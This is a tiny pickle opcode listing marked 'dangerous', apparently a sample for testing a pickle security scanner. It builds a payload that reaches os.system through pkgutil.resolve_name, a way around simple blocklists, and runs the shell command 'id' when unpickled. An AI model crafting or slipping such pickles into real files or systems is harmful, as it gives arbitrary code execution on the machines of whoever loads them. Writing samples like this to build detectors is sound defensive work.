# dangerous: pkgutil.resolve_name("os:system")
PROTO 4
GLOBAL pkgutil resolve_name
SHORT_BINUNICODE "os:system"
TUPLE1
REDUCE
SHORT_BINUNICODE "id"
TUPLE1
REDUCE
STOP
